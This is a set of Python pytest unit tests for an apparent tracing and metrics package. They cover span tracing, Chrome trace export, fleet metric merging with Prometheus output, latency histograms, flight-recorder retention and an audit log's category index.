    def test_everything_is_inert(self):
        n = NullTracer()
        assert n.enabled is False
        assert n.request("r") is _NULL_SPAN
        assert n.span("s") is _NULL_SPAN
        assert n.current_ids() is None
        assert n.latencies() == {}
        assert n.histogram("x") is None
        n.annotate(a=1)  # no-op, no raise
        with n.request("r") as s:
            with n.span("c"):
                pass
        assert s is _NULL_SPAN

    def test_shared_singleton(self):
        assert NULL_TRACER.enabled is False
        assert NULL_TRACER.span("x") is NULL_TRACER.span("y")

    def test_null_span_swallows_nothing(self):
        with pytest.raises(KeyError):
            with NULL_TRACER.span("s"):
                raise KeyError("real errors still propagate")


class TestDetailSpans:
    def test_detail_spans_only_on_sampled_traces(self):
        t = Tracer(fold_every=2)  # traces 1, 3, 5... sample
        kept = []
        for _ in range(2):
            with t.request("r") as root:
                with t.detail("kernel.checkout"):
                    pass
            kept.append(root.trace)
        assert [s.name for s in kept[0].walk()] == ["r", "kernel.checkout"]
        assert [s.name for s in kept[1].walk()] == ["r"]

    def test_detail_outside_trace_is_null(self):
        assert Tracer().detail("d") is _NULL_SPAN

    def test_null_tracer_detail_is_null(self):
        assert NULL_TRACER.detail("d") is _NULL_SPAN
