"""Exporters: dict form, text tree, Chrome trace-event JSON."""

import json

from repro.obs import (Tracer, chrome_trace, render_text, trace_to_dict,
                       validate_chrome_trace)


class _Boom(Exception):
    pass


def _sample_trace(error=False):
    t = Tracer()
    with t.request("GET /app/blog/read", method="GET") as root:
        with t.span("gateway.admit", principal="alice"):
            pass
        try:
            with t.span("app.run", app="app:blog"):
                with t.span("db.select", table="posts"):
                    if error:
                        raise _Boom()
        except _Boom:
            pass
    return root.trace


class TestTraceToDict:
    def test_offsets_relative_to_root(self):
        d = trace_to_dict(_sample_trace())
        assert d["root"]["start_us"] == 0.0
        admit, app = d["root"]["children"]
        assert admit["name"] == "gateway.admit"
        assert admit["start_us"] >= 0.0
        assert app["children"][0]["name"] == "db.select"
        # children start after (or with) their parent
        assert app["children"][0]["start_us"] >= app["start_us"]

    def test_metadata_fields(self):
        d = trace_to_dict(_sample_trace())
        assert d["n_spans"] == 4
        assert d["truncated"] == 0
        assert d["error"] is False
        assert d["duration_us"] >= 0

    def test_attrs_preserved(self):
        d = trace_to_dict(_sample_trace())
        assert d["root"]["attrs"] == {"method": "GET"}
        assert d["root"]["children"][0]["attrs"] == {"principal": "alice"}

    def test_json_serializable(self):
        json.dumps(trace_to_dict(_sample_trace()))


class TestRenderText:
    def test_tree_shape(self):
        text = render_text(trace_to_dict(_sample_trace()))
        lines = text.splitlines()
        assert lines[0].startswith("trace ")
        assert "GET /app/blog/read" in lines[0]
        assert "gateway.admit" in text
        # db.select is nested two levels under the root
        db_line = next(l for l in lines if "db.select" in l)
        assert db_line.startswith("    ")

    def test_error_flagged(self):
        text = render_text(trace_to_dict(_sample_trace(error=True)))
        assert "ERROR" in text.splitlines()[0]
        assert " !" in next(l for l in text.splitlines()
                            if "db.select" in l)


class TestChromeTrace:
    def test_valid_and_loadable(self):
        doc = chrome_trace([trace_to_dict(_sample_trace())])
        assert validate_chrome_trace(doc) is None
        # round-trips through JSON (what CI uploads)
        assert validate_chrome_trace(json.loads(json.dumps(doc))) is None

    def test_event_structure(self):
        doc = chrome_trace([trace_to_dict(_sample_trace())])
        events = doc["traceEvents"]
        meta = [e for e in events if e["ph"] == "M"]
        spans = [e for e in events if e["ph"] == "X"]
        assert {m["name"] for m in meta} == {"process_name", "thread_name"}
        assert len(spans) == 4
        assert all(e["pid"] == 1 for e in spans)
        db = next(e for e in spans if e["name"] == "db.select")
        assert db["cat"] == "db"
        assert db["args"] == {"table": "posts"}

    def test_multiple_traces_get_distinct_tids(self):
        docs = [trace_to_dict(_sample_trace()) for _ in range(3)]
        doc = chrome_trace(docs)
        tids = {e["tid"] for e in doc["traceEvents"] if e["ph"] == "X"}
        assert tids == {1, 2, 3}

    def test_error_status_lands_in_args(self):
        doc = chrome_trace([trace_to_dict(_sample_trace(error=True))])
        db = next(e for e in doc["traceEvents"]
                  if e.get("name") == "db.select")
        assert db["args"]["status"] == "error"


class TestValidator:
    def test_rejects_missing_trace_events(self):
        assert validate_chrome_trace({}) is not None

    def test_rejects_malformed_event(self):
        assert validate_chrome_trace(
            {"traceEvents": [{"ph": "X"}]}) is not None

    def test_rejects_negative_duration(self):
        bad = {"traceEvents": [{"ph": "X", "name": "s", "pid": 1,
                                "ts": 0, "dur": -1}]}
        assert validate_chrome_trace(bad) is not None
