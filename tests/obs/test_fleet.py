"""Unit tests for the fleet observability plane (M16).

Covers the pieces in :mod:`repro.obs.fleet` in isolation: context
export/propagation, the :class:`RemoteCapture` window, graft stitching
(including the orphan path), the :class:`FleetRegistry` exact merge —
pinned by a hypothesis property test against a union histogram — the
delta scrape, the Prometheus round trip, and the provider health
gauges.  Integration (real shards, real federation links) lives in
``tests/platform/test_fleet_trace.py`` and
``tests/federation/test_fabric.py``.
"""

from hypothesis import given, settings
from hypothesis import strategies as st

from repro.kernel.audit import AuditLog
from repro.core.metrics import FederationStatsSource, Metrics
from repro.obs import (FleetRegistry, LatencyHistogram, RemoteCapture,
                       TraceContext, Tracer, parse_prometheus,
                       prometheus_text, trace_to_dict)
from repro.obs.fleet import _worst
from repro.obs.trace import NULL_TRACER


def make_metrics():
    return Metrics(AuditLog())


class TestTraceContext:
    def test_export_requires_open_span(self):
        tracer = Tracer(fold_every=1)
        assert tracer.export_context() is None
        with tracer.request("root"):
            ctx = tracer.export_context()
            assert ctx is not None
            assert ctx.fold is True
            assert ctx.span_id == tracer.current_ids()[1]
        assert tracer.export_context() is None

    def test_context_is_picklable_and_tuple_shaped(self):
        import pickle
        tracer = Tracer(fold_every=1)
        with tracer.request("root"):
            ctx = tracer.export_context()
        clone = pickle.loads(pickle.dumps(ctx))
        assert clone == ctx
        # the wire crossing reconstructs from a bare tuple
        assert TraceContext(*tuple(ctx)) == ctx

    def test_null_tracer_exports_nothing(self):
        assert NULL_TRACER.export_context() is None
        NULL_TRACER.graft("x", {})  # no-op, must not raise


class TestRemoteCapture:
    def test_fold_decision_travels(self):
        origin = Tracer(fold_every=1)
        remote = Tracer(fold_every=10**9)  # would never fold locally
        with origin.request("near.side"):
            ctx = origin.export_context()
        with RemoteCapture(remote, ctx) as capture:
            with remote.request("far.side"):
                with remote.detail("far.child"):
                    pass
        (skeleton,) = capture.skeletons
        assert skeleton["root"]["name"] == "far.side"
        # inherited fold=True: the detail span was recorded
        assert [c["name"] for c in skeleton["root"]["children"]] \
            == ["far.child"]

    def test_unfolded_context_suppresses_children(self):
        origin = Tracer(fold_every=10**9)
        remote = Tracer(fold_every=1)
        with origin.request("warmup"):
            pass  # trace #1 always folds; trace #2 won't
        with origin.request("near.side"):
            ctx = origin.export_context()
            assert ctx.fold is False
        with RemoteCapture(remote, ctx) as capture:
            with remote.request("far.side"):
                with remote.detail("far.child"):
                    pass
        (skeleton,) = capture.skeletons
        # inherited fold=False: the detail span was suppressed, even
        # though this tracer's own policy (fold_every=1) would keep it
        assert skeleton["root"]["children"] == []

    def test_sink_is_chained_and_restored(self):
        remote = Tracer(fold_every=1)
        seen = []
        remote.sink = seen.append
        ctx = TraceContext("t-1", 1, True)
        with RemoteCapture(remote, ctx) as capture:
            with remote.request("far.side"):
                pass
        # the far side's own sink still saw the trace
        assert len(seen) == 1 and len(capture.skeletons) == 1
        assert remote.sink == seen.append
        assert remote._remote is None
        with remote.request("after"):
            pass
        assert len(seen) == 2  # back to normal operation


class TestGraftStitching:
    def run_remote(self, name="remote.root"):
        remote = Tracer(fold_every=1)
        skeletons = []
        remote.sink = lambda t: skeletons.append(trace_to_dict(t))
        with remote.request(name):
            with remote.span("remote.child"):
                pass
        return skeletons[0]

    def test_graft_merges_into_one_tree(self):
        skeleton = self.run_remote()
        origin = Tracer(fold_every=1)
        docs = []
        origin.sink = lambda t: docs.append(trace_to_dict(t))
        with origin.request("local.root"):
            origin.graft("shard:1", skeleton)
        (doc,) = docs
        assert doc["grafts"] == 1
        assert doc["orphan_grafts"] == 0
        (child,) = [c for c in doc["root"]["children"]
                    if "origin" in c["attrs"]]
        assert child["name"] == "remote.root"
        assert child["attrs"]["origin"] == "shard:1"
        assert child["attrs"]["remote_trace_id"] == skeleton["trace_id"]
        assert [c["name"] for c in child["children"]] == ["remote.child"]
        # span accounting absorbed the remote counts
        assert doc["n_spans"] == 1 + skeleton["n_spans"]

    def test_graft_under_closed_parent_is_orphaned_not_lost(self):
        skeleton = self.run_remote()
        origin = Tracer(fold_every=1)
        docs = []
        origin.sink = lambda t: docs.append(trace_to_dict(t))
        with origin.request("local.root"):
            with origin.span("local.child"):
                pass
            # graft names a parent span id that was never recorded
            # (e.g. unfolded): it must attach at the root, flagged
            trace = origin._context.get().trace
            trace.grafts = [(999999, "shard:9", skeleton)]
        (doc,) = docs
        assert doc["orphan_grafts"] == 1
        orphans = [c for c in doc["root"]["children"]
                   if c["attrs"].get("orphan")]
        assert len(orphans) == 1

    def test_graft_outside_trace_is_noop(self):
        origin = Tracer(fold_every=1)
        origin.graft("shard:1", self.run_remote())  # must not raise

    def test_grafted_times_rebase_onto_parent(self):
        skeleton = self.run_remote()
        origin = Tracer(fold_every=1)
        docs = []
        origin.sink = lambda t: docs.append(trace_to_dict(t))
        with origin.request("local.root"):
            origin.graft("shard:1", skeleton)
        (doc,) = docs
        (child,) = doc["root"]["children"]
        assert child["start_us"] >= doc["root"]["start_us"]


class TestFleetRegistry:
    def test_merged_counts_sum_members(self):
        registry = FleetRegistry()
        a, b = make_metrics(), make_metrics()
        a._by_category[("flow", True)] = 3
        a._by_category[("flow", False)] = 1
        b._by_category[("flow", True)] = 2
        b._by_category[("login", True)] = 5
        registry.attach("shard:0", a).attach("shard:1", b)
        assert registry.merged_counts() == {
            ("flow", True): 5, ("flow", False): 1, ("login", True): 5}
        assert registry.snapshot()["counters"] == {
            "flow.allow": 5, "flow.deny": 1, "login.allow": 5}

    def test_merge_leaves_member_histograms_untouched(self):
        registry = FleetRegistry()
        a = make_metrics()
        a._observe_latency("ipc", 1e-6)
        registry.attach("a", a)
        merged = registry.merged_latency()["ipc"]
        merged.add(5.0)
        assert a.latency_histograms()["ipc"].count == 1

    def test_delta_snapshot_advances_scrape_point(self):
        registry = FleetRegistry()
        a = make_metrics()
        registry.attach("a", a)
        a._by_category[("flow", True)] = 2
        a._observe_latency("ipc", 1e-6)
        first = registry.delta_snapshot()
        assert first == {"counters": {"flow.allow": 2},
                         "observations": {"ipc": 1}}
        assert registry.delta_snapshot() == {"counters": {},
                                             "observations": {}}
        a._by_category[("flow", True)] = 5
        assert registry.delta_snapshot()["counters"] == {"flow.allow": 3}

    def test_health_rollup_is_worst_state(self):
        class Source:
            def __init__(self, state):
                self._state = state

            def health_report(self):
                return {"state": self._state}

        registry = FleetRegistry()
        registry.attach_health("x", Source("ok"))
        assert registry.health_report()["state"] == "ok"
        registry.attach_health("y", Source("degraded"))
        assert registry.health_report()["state"] == "degraded"
        registry.attach_health("z", Source("down"))
        report = registry.health_report()
        assert report["state"] == "down"
        assert set(report["sources"]) == {"x", "y", "z"}

    @settings(max_examples=50, deadline=None)
    @given(st.lists(st.lists(st.floats(min_value=1e-9, max_value=10.0,
                                       allow_nan=False),
                             max_size=30),
                    min_size=1, max_size=5))
    def test_merged_percentiles_equal_union_histogram(self, fleets):
        """The registry's merge is exact: percentiles of the merged
        histogram equal percentiles of one histogram fed every
        member's observations — no approximation slack."""
        registry = FleetRegistry()
        union = LatencyHistogram()
        for i, observations in enumerate(fleets):
            m = make_metrics()
            for s in observations:
                m._observe_latency("flow", s)
                union.add(s)
            registry.attach(f"m{i}", m)
        merged = registry.merged_latency().get("flow")
        if union.count == 0:
            assert merged is None
            return
        assert merged.count == union.count
        assert merged.buckets == union.buckets
        assert merged.min == union.min and merged.max == union.max
        for q in (0.0, 0.25, 0.5, 0.9, 0.99, 1.0):
            assert merged.percentile(q) == union.percentile(q)


class TestPrometheus:
    def build_registry(self):
        registry = FleetRegistry()
        a, b = make_metrics(), make_metrics()
        a._by_category[("flow", True)] = 7
        a._by_category[("flow", False)] = 2
        b._by_category[("login", True)] = 1
        for s in (1e-7, 3e-6, 2e-3, 0.5):
            a._observe_latency("ipc", s)
            b._observe_latency("fs.read", s * 2)
        return registry.attach("shard:0", a).attach("shard:1", b)

    def test_text_round_trips_through_parser(self):
        registry = self.build_registry()
        samples = parse_prometheus(registry.prometheus())
        assert samples[("w5_members", ())] == 2
        assert samples[("w5_audit_total",
                        (("category", "flow"), ("verdict", "allow")))] == 7
        assert samples[("w5_audit_total",
                        (("category", "flow"), ("verdict", "deny")))] == 2
        hist = registry.merged_latency()["ipc"]
        assert samples[("w5_flow_latency_seconds_count",
                        (("category", "ipc"),))] == hist.count
        assert samples[("w5_flow_latency_seconds_sum",
                        (("category", "ipc"),))] == hist.total
        inf = samples[("w5_flow_latency_seconds_bucket",
                       (("category", "ipc"), ("le", "+Inf")))]
        assert inf == hist.count

    def test_buckets_are_cumulative_and_monotone(self):
        registry = self.build_registry()
        samples = parse_prometheus(registry.prometheus())
        buckets = sorted(
            (float(dict(labels)["le"].replace("+Inf", "inf")), value)
            for (name, labels) in samples
            if name == "w5_flow_latency_seconds_bucket"
            and dict(labels)["category"] == "ipc"
            for value in [samples[(name, labels)]])
        values = [v for _, v in buckets]
        assert values == sorted(values)
        assert values[-1] == registry.merged_latency()["ipc"].count

    def test_snapshot_survives_json(self):
        """The exposition renders identically from a JSON round trip
        of the snapshot (string bucket keys) — the scrape path."""
        import json
        registry = self.build_registry()
        snapshot = registry.snapshot()
        rehydrated = json.loads(json.dumps(snapshot))
        assert prometheus_text(rehydrated) == prometheus_text(snapshot)


class TestHealthModel:
    def test_worst_ranking(self):
        assert _worst([]) == "ok"
        assert _worst(["ok", "ok"]) == "ok"
        assert _worst(["ok", "degraded"]) == "degraded"
        assert _worst(["degraded", "down", "ok"]) == "down"
        assert _worst(["mystery"]) == "degraded"  # unknown is suspect

    def test_provider_health_gauges(self):
        from repro.obs import provider_health
        from repro.platform import Provider, ProviderConfig
        provider = Provider(config=ProviderConfig.durable())
        provider.signup("alice", "pw")
        report = provider_health(provider)
        assert report["state"] == "ok"
        gauges = report["gauges"]
        assert gauges["journal_lag_bytes"] > 0
        assert gauges["audit_dropped"] == 0
        assert provider.health_report() == report

    def test_journal_lag_degrades(self):
        from repro.obs import provider_health
        from repro.platform import Provider, ProviderConfig
        provider = Provider(config=ProviderConfig.durable())
        provider.signup("alice", "pw")
        report = provider_health(provider, journal_lag_limit=1)
        assert report["state"] == "degraded"
        assert any("journal lag" in r for r in report["reasons"])

    def test_audit_drops_degrade(self):
        from repro.obs import provider_health
        from repro.platform import Provider
        provider = Provider(audit_max_events=4)
        provider.signup("alice", "pw")
        provider.signup("bob", "pw")  # overflow the 4-event ring
        report = provider_health(provider)
        assert report["state"] == "degraded"
        assert any("audit ring" in r for r in report["reasons"])
        assert report["gauges"]["audit_dropped"] > 0


class TestFederationStatsProtocol:
    def test_fabric_and_link_satisfy_the_protocol(self):
        from repro.federation import FederationFabric
        fabric = FederationFabric(2)
        assert isinstance(fabric, FederationStatsSource)
        fabric.signup("bob", "pw")
        fabric.mirror("bob", 1 - fabric.home_of("bob"))
        for link in fabric.links():
            assert isinstance(link, FederationStatsSource)

    def test_attach_federation_accepts_any_source(self):
        metrics = make_metrics()

        class Custom:
            def federation_stats(self):
                return {"providers": 1, "live": 1, "links": 0}

        metrics.attach_federation(Custom())
        assert metrics.federation_snapshot()["live"] == 1
