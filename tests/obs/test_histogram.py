"""Histogram bucketing math: boundaries, percentiles, merge.

The three properties the M11 latency view leans on:

* bucketing is exact at power-of-two boundaries (off-by-one here
  would shift every percentile estimate a full bucket);
* percentile estimates track exact quantiles within the log2 bucket
  error bound (a factor of 2) on known distributions, and are *exact*
  for degenerate distributions (clamping to observed min/max);
* merge is lossless: a merged histogram is indistinguishable from one
  that saw the concatenated observations (hypothesis round-trip).
"""

import math
import random

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from repro.obs import LatencyHistogram
from repro.obs.histogram import BUCKETS


def _exact_quantile(values, q):
    """The same rank definition the histogram interpolates toward."""
    values = sorted(values)
    if not values:
        return 0.0
    rank = q * (len(values) - 1)
    lo = math.floor(rank)
    hi = math.ceil(rank)
    frac = rank - lo
    return values[lo] * (1 - frac) + values[hi] * frac


class TestBucketBoundaries:
    def test_zero_and_one_ns_share_bucket_zero(self):
        h = LatencyHistogram()
        h.add(0.0)
        h.add(1e-9)
        assert h.buckets[0] == 2

    @pytest.mark.parametrize("exp", [1, 4, 10, 20, 30])
    def test_power_of_two_lands_in_its_own_bucket(self, exp):
        # 2^exp ns is the *inclusive lower* boundary of bucket `exp`
        h = LatencyHistogram()
        h.add((1 << exp) / 1e9)
        assert h.buckets[exp] == 1

    @pytest.mark.parametrize("exp", [1, 4, 10, 20, 30])
    def test_just_below_boundary_lands_one_bucket_down(self, exp):
        h = LatencyHistogram()
        h.add(((1 << exp) - 1) / 1e9)
        assert h.buckets[exp - 1] == 1

    def test_negative_clamps_to_zero(self):
        h = LatencyHistogram()
        h.add(-1.0)
        assert h.buckets[0] == 1
        assert h.min == 0.0

    def test_huge_value_clamps_to_top_bucket(self):
        h = LatencyHistogram()
        h.add(1e30)
        assert h.buckets[BUCKETS - 1] == 1

    def test_exact_moments_match_latencystat_contract(self):
        h = LatencyHistogram.from_values([1e-6, 3e-6, 2e-6])
        d = h.as_dict()
        assert d["count"] == 3
        assert d["total_s"] == pytest.approx(6e-6)
        assert d["mean_us"] == pytest.approx(2.0)
        assert d["min_us"] == pytest.approx(1.0)
        assert d["max_us"] == pytest.approx(3.0)

    def test_empty_histogram_reports_zeros(self):
        d = LatencyHistogram().as_dict()
        assert d == {"count": 0, "total_s": 0.0, "mean_us": 0.0,
                     "min_us": 0.0, "max_us": 0.0, "p50_us": 0.0,
                     "p95_us": 0.0, "p99_us": 0.0}


class TestPercentiles:
    def test_single_observation_is_exact_everywhere(self):
        h = LatencyHistogram.from_values([42e-6])
        for q in (0.0, 0.5, 0.95, 0.99, 1.0):
            assert h.percentile(q) == pytest.approx(42e-6)

    def test_identical_observations_are_exact(self):
        h = LatencyHistogram.from_values([7e-6] * 1000)
        assert h.percentile(0.5) == pytest.approx(7e-6)
        assert h.percentile(0.99) == pytest.approx(7e-6)

    def test_extremes_are_exact_min_and_max(self):
        values = [random.Random(1).uniform(1e-6, 1e-3)
                  for _ in range(500)]
        h = LatencyHistogram.from_values(values)
        assert h.percentile(0.0) == min(values)
        assert h.percentile(1.0) == max(values)

    @pytest.mark.parametrize("q", [0.50, 0.95, 0.99])
    def test_uniform_distribution_within_bucket_error(self, q):
        rng = random.Random(7)
        values = [rng.uniform(1e-6, 1e-3) for _ in range(5000)]
        h = LatencyHistogram.from_values(values)
        exact = _exact_quantile(values, q)
        est = h.percentile(q)
        # log2 buckets: the estimate is within one bucket of truth,
        # i.e. a factor of 2 either way
        assert exact / 2 <= est <= exact * 2

    @pytest.mark.parametrize("q", [0.50, 0.95, 0.99])
    def test_lognormal_distribution_within_bucket_error(self, q):
        rng = random.Random(11)
        values = [rng.lognormvariate(math.log(50e-6), 1.0)
                  for _ in range(5000)]
        h = LatencyHistogram.from_values(values)
        exact = _exact_quantile(values, q)
        est = h.percentile(q)
        assert exact / 2 <= est <= exact * 2

    def test_percentiles_are_monotone(self):
        rng = random.Random(3)
        h = LatencyHistogram.from_values(
            [rng.expovariate(1e4) for _ in range(2000)])
        qs = [0.01, 0.1, 0.25, 0.5, 0.75, 0.9, 0.95, 0.99]
        estimates = [h.percentile(q) for q in qs]
        assert estimates == sorted(estimates)


# Latencies from sub-ns to ~16 s, the realistic observable span.
_latency = st.floats(min_value=0.0, max_value=16.0, allow_nan=False,
                     allow_infinity=False)


class TestMerge:
    @given(a=st.lists(_latency, max_size=60),
           b=st.lists(_latency, max_size=60))
    @settings(max_examples=200, deadline=None)
    def test_merge_equals_concatenation(self, a, b):
        merged = LatencyHistogram.from_values(a).merge(
            LatencyHistogram.from_values(b))
        direct = LatencyHistogram.from_values(a + b)
        assert merged.buckets == direct.buckets
        assert merged.count == direct.count
        assert merged.total == pytest.approx(direct.total)
        assert merged.max == direct.max
        if a or b:
            assert merged.min == direct.min
        # identical state => identical percentile estimates
        for q in (0.5, 0.95, 0.99):
            assert merged.percentile(q) == direct.percentile(q)

    def test_merge_into_empty(self):
        h = LatencyHistogram().merge(LatencyHistogram.from_values([1e-6]))
        assert h.count == 1
        assert h.min == 1e-6

    def test_merge_empty_is_identity(self):
        h = LatencyHistogram.from_values([5e-6, 9e-6])
        before = (list(h.buckets), h.count, h.total, h.min, h.max)
        h.merge(LatencyHistogram())
        assert (list(h.buckets), h.count, h.total, h.min, h.max) == before
