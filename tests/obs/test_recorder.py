"""Flight-recorder retention and eviction order."""

from repro.obs import FlightRecorder, Tracer


class _Boom(Exception):
    pass


def _finish_trace(tracer, name, duration, error=False):
    """Drive one trace through the tracer with a synthetic duration."""
    span = tracer.request(name)
    try:
        with span:
            if error:
                raise _Boom()
    except _Boom:
        pass
    # overwrite the measured wall-clock with the synthetic duration so
    # eviction order is deterministic
    span.duration = duration
    return span.trace


def _recorded(keep_slowest=3, keep_errors=2):
    tracer = Tracer()
    rec = FlightRecorder(keep_slowest=keep_slowest,
                         keep_errors=keep_errors)
    return tracer, rec


class TestSlowestRetention:
    def test_keeps_at_most_n(self):
        tracer, rec = _recorded(keep_slowest=3)
        for i in range(10):
            t = _finish_trace(tracer, f"r{i}", duration=i * 1e-3)
            rec.offer(t)
        assert len(rec.slowest()) == 3

    def test_evicts_fastest_first(self):
        tracer, rec = _recorded(keep_slowest=3)
        durations = [5e-3, 1e-3, 9e-3, 3e-3, 7e-3]
        for i, d in enumerate(durations):
            rec.offer(_finish_trace(tracer, f"r{i}", duration=d))
        kept = [t.duration for t in rec.slowest()]
        assert kept == [9e-3, 7e-3, 5e-3]  # slowest first; 1ms, 3ms gone

    def test_fast_trace_never_displaces_slow(self):
        tracer, rec = _recorded(keep_slowest=2)
        rec.offer(_finish_trace(tracer, "slow1", duration=8e-3))
        rec.offer(_finish_trace(tracer, "slow2", duration=6e-3))
        rec.offer(_finish_trace(tracer, "fast", duration=1e-6))
        assert [t.name for t in rec.slowest()] == ["slow1", "slow2"]
        assert rec.kept_slow_evictions == 0

    def test_eviction_counter(self):
        tracer, rec = _recorded(keep_slowest=2)
        for i in range(5):
            rec.offer(_finish_trace(tracer, f"r{i}", duration=(i + 1) * 1e-3))
        assert rec.kept_slow_evictions == 3

    def test_duration_ties_keep_insertion_order_stable(self):
        tracer, rec = _recorded(keep_slowest=2)
        for i in range(4):
            rec.offer(_finish_trace(tracer, f"tie{i}", duration=2e-3))
        # ties: later arrivals never displace earlier equals (> not >=)
        assert sorted(t.name for t in rec.slowest()) == ["tie0", "tie1"]


class TestErrorRetention:
    def test_all_error_traces_kept_up_to_bound(self):
        tracer, rec = _recorded(keep_errors=2)
        for i in range(4):
            rec.offer(_finish_trace(tracer, f"e{i}", duration=1e-6,
                                    error=True))
        kept = [t.name for t in rec.errors()]
        assert kept == ["e3", "e2"]  # most recent first, oldest evicted

    def test_error_and_slow_deduped_in_traces(self):
        tracer, rec = _recorded(keep_slowest=3, keep_errors=3)
        t = _finish_trace(tracer, "both", duration=9e-3, error=True)
        rec.offer(t)
        assert len(rec.traces()) == 1
        assert rec.find(t.trace_id) is t

    def test_http_error_status_counts_as_error(self):
        tracer, rec = _recorded()
        span = tracer.request("GET /x")
        with span:
            pass
        span.attrs["status"] = 403
        rec.offer(span.trace)
        assert len(rec.errors()) == 1

    def test_ok_trace_not_in_errors(self):
        tracer, rec = _recorded()
        rec.offer(_finish_trace(tracer, "ok", duration=1e-6))
        assert rec.errors() == []


class TestDump:
    def test_dump_shape(self):
        tracer, rec = _recorded()
        rec.offer(_finish_trace(tracer, "r", duration=1e-3))
        dump = rec.dump()
        assert dump["stats"]["offered"] == 1
        assert dump["slowest"][0]["name"] == "r"
        assert dump["errors"] == []

    def test_clear(self):
        tracer, rec = _recorded()
        rec.offer(_finish_trace(tracer, "r", duration=1e-3, error=True))
        rec.clear()
        assert rec.traces() == []
