"""The per-category audit index is behavior-identical to the scan.

The index exists purely for speed: ``events(category=...)`` must
return exactly what a full scan of the retained ring would, under
every eviction pattern.  These tests run an indexed and an unindexed
log side by side through randomized event streams and pin equality.
"""

import random

import pytest

from repro.kernel.audit import AuditLog

CATEGORIES = ["spawn", "send", "file_read", "db_query", "export"]
SUBJECTS = ["app:blog", "app:social", "gateway", "provider"]


def _drive(logs, n, seed, *, ring=False):
    """Feed the same random stream to every log in ``logs``."""
    rng = random.Random(seed)
    for i in range(n):
        cat = rng.choice(CATEGORIES)
        subj = rng.choice(SUBJECTS)
        allowed = rng.random() < 0.8
        for log in logs:
            log.record(cat, allowed, subj, f"event {i}")


def _assert_identical(indexed, scanned):
    for cat in CATEGORIES + ["never_recorded"]:
        assert indexed.events(category=cat) == scanned.events(category=cat)
        for allowed in (None, True, False):
            for subj in SUBJECTS + [None]:
                assert (indexed.events(category=cat, subject=subj,
                                       allowed=allowed)
                        == scanned.events(category=cat, subject=subj,
                                          allowed=allowed))


class TestIndexEquivalence:
    def test_unbounded_log(self):
        indexed = AuditLog()
        scanned = AuditLog(category_index=False)
        _drive([indexed, scanned], 300, seed=1)
        _assert_identical(indexed, scanned)

    @pytest.mark.parametrize("capacity", [1, 7, 50])
    def test_ring_eviction(self, capacity):
        """Global-FIFO eviction keeps the index exact at any bound."""
        indexed = AuditLog(max_events=capacity)
        scanned = AuditLog(max_events=capacity, category_index=False)
        _drive([indexed, scanned], 300, seed=2)
        assert indexed.dropped == scanned.dropped == 300 - capacity
        _assert_identical(indexed, scanned)

    def test_skewed_stream_single_hot_category(self):
        """One category dominating the ring evicts mostly from itself."""
        indexed = AuditLog(max_events=10)
        scanned = AuditLog(max_events=10, category_index=False)
        for i in range(100):
            cat = "send" if i % 10 else "export"
            for log in (indexed, scanned):
                log.record(cat, True, "app:blog", f"e{i}")
        _assert_identical(indexed, scanned)

    def test_clear_resets_index(self):
        log = AuditLog(max_events=5)
        _drive([log], 20, seed=3)
        log.clear()
        assert log.events(category="send") == []
        log.record("send", True, "app:blog", "after clear")
        assert len(log.events(category="send")) == 1

    def test_unfiltered_queries_unaffected(self):
        indexed = AuditLog(max_events=20)
        scanned = AuditLog(max_events=20, category_index=False)
        _drive([indexed, scanned], 100, seed=4)
        assert list(indexed) == list(scanned)
        assert indexed.events() == scanned.events()
        assert indexed.count() == scanned.count()


class TestCountEquivalence:
    """count() answers from O(1) counters; the scan is the oracle."""

    def _assert_counts(self, log):
        for cat in CATEGORIES + ["never_recorded", None]:
            for allowed in (None, True, False):
                assert (log.count(category=cat, allowed=allowed)
                        == len(log.events(category=cat, allowed=allowed))), \
                    (cat, allowed)

    def test_unbounded(self):
        log = AuditLog()
        _drive([log], 300, seed=11)
        self._assert_counts(log)

    @pytest.mark.parametrize("capacity", [1, 7, 50])
    def test_ring_eviction_decrements(self, capacity):
        log = AuditLog(max_events=capacity)
        _drive([log], 300, seed=12)
        assert log.dropped == 300 - capacity
        self._assert_counts(log)

    def test_unindexed_log_counts_identically(self):
        log = AuditLog(max_events=25, category_index=False)
        _drive([log], 200, seed=13)
        self._assert_counts(log)

    def test_clear_resets_counters(self):
        log = AuditLog(max_events=10)
        _drive([log], 50, seed=14)
        log.clear()
        assert log.count() == 0
        assert log.count(category="send") == 0
        assert log.count(allowed=False) == 0
        log.record("send", False, "app:blog", "after clear")
        assert log.count(category="send", allowed=False) == 1
        self._assert_counts(log)

    def test_lazy_records_counted(self):
        log = AuditLog(max_events=8)
        for i in range(40):
            log.record_lazy("db_query", i % 3 != 0, "app:blog",
                            "select %s (%d rows)", ("posts", i))
        self._assert_counts(log)


class TestLazyDetail:
    """Deferred rendering is byte-identical to eager formatting."""

    def test_rendered_on_access(self):
        log = AuditLog()
        e = log.record_lazy("spawn", True, "provider",
                            "trusted spawn %r pid=%d", ("app:blog", 17))
        assert e.detail == "trusted spawn 'app:blog' pid=17"
        # second access returns the cached render
        assert e.detail == "trusted spawn 'app:blog' pid=17"

    def test_plain_template_needs_no_args(self):
        log = AuditLog()
        e = log.record_lazy("export", True, "gateway", "ok")
        assert e.detail == "ok"

    def test_eager_opt_out_is_identical(self):
        lazy = AuditLog(lazy=True)
        eager = AuditLog(lazy=False)
        for log in (lazy, eager):
            log.record_lazy("db_query", True, "app:blog",
                            "select %s (%d rows)", ("posts", 3))
        assert lazy.events() == eager.events()
        assert lazy.last().detail == eager.last().detail

    def test_equality_and_hash_force_render(self):
        a = AuditLog()
        b = AuditLog()
        ea = a.record_lazy("exit", True, "app:blog", "exit pid=%d", (5,))
        eb = b.record("exit", True, "app:blog", "exit pid=5")
        assert ea == eb
        assert hash(ea) == hash(eb)

    def test_extra_allocated_on_demand(self):
        log = AuditLog()
        e = log.record_lazy("exit", True, "app:blog", "exit pid=%d", (5,))
        assert e._extra is None  # no dict until someone asks
        assert e.extra == {}
        e.extra["k"] = 1
        assert e.extra["k"] == 1  # the lazily-created dict persists


class _StubTrace:
    def __init__(self, trace_id):
        self.trace_id = trace_id


class _StubSpan:
    def __init__(self, trace_id, span_id):
        self.trace = _StubTrace(trace_id)
        self.span_id = span_id


class _StubTracer:
    """The trace_source protocol: an object with a ``current`` span."""

    def __init__(self, current=None):
        self.current = current


class TestTraceStamping:
    def test_trace_source_stamps_extra(self):
        log = AuditLog()
        log.trace_source = _StubTracer(_StubSpan("deadbeef", 7))
        e = log.record("export", True, "gateway", "ok")
        assert e.extra["trace_id"] == "deadbeef"
        assert e.extra["span_id"] == 7

